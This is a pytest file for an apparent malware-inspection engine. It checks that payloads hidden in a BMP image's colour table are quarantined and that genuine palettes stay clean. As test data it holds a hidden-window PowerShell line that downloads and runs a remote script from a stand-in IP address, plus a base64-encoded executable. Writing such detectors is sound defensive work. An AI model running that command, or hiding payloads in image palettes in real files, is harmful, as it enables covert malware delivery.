"""A BMP's colour table is judged (agent/inspect/bmp.py): its entries are values of the
writer's choosing, and a 24-bit image may carry one (biClrUsed) that nothing draws with.

BITMAPINFOHEADER: biClrUsed at offset 32 of the DIB header; the table of 4-byte RGBQUAD
entries follows the header. A raw program is found anywhere by the whole-file search for
program headers; an encoded program or a script line only in a region a judge is given.
"""

from __future__ import annotations

import base64
import io
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
FILE_HEADER = 14
TABLE_BYTES = 256 * 4


def _bmp(mode: str) -> bytes:
    out = io.BytesIO()
    gradient((64, 48)).convert(mode).save(out, "BMP")
    return out.getvalue()


def _with_table(bmp: bytes, table: bytes) -> bytes:
    """The 24-bit BMP with a 256-entry colour table inserted after its DIB header."""
    dib = struct.unpack_from("<I", bmp, FILE_HEADER)[0]
    at = FILE_HEADER + dib
    out = bytearray(bmp[:at] + table + bmp[at:])
    struct.pack_into("<I", out, 2, len(out))  # bfSize
    struct.pack_into("<I", out, 10, struct.unpack_from("<I", bmp, 10)[0] + len(table))
    struct.pack_into("<I", out, FILE_HEADER + 32, 256)  # biClrUsed
    return bytes(out)


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_an_8_bit_palette_is_quarantined(kind: str) -> None:
    bmp = _bmp("P")
    at = FILE_HEADER + struct.unpack_from("<I", bmp, FILE_HEADER)[0]
    table = PAYLOADS[kind][:TABLE_BYTES].ljust(TABLE_BYTES, b" ")
    report = inspect_bytes("scan.bmp", bmp[:at] + table + bmp[at + TABLE_BYTES :])
    assert report.verdict.value == "quarantine"
    assert "bmp.payload_in_metadata" in {f.code for f in report.findings}


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_a_24_bit_images_unused_palette_is_quarantined(kind: str) -> None:
    table = PAYLOADS[kind][:TABLE_BYTES].ljust(TABLE_BYTES, b" ")
    assert inspect_bytes("scan.bmp", _with_table(_bmp("RGB"), table)).verdict.value == "quarantine"


@pytest.mark.parametrize("mode", ["1", "L", "P"])
def test_real_palettes_stay_clean(mode: str) -> None:
    assert inspect_bytes("scan.bmp", _bmp(mode)).verdict.value == "clean"


def test_a_grey_ramp_table_on_a_24_bit_image_stays_clean() -> None:
    ramp = b"".join(bytes([value, value, value, 0]) for value in range(256))
    assert inspect_bytes("scan.bmp", _with_table(_bmp("RGB"), ramp)).verdict.value == "clean"
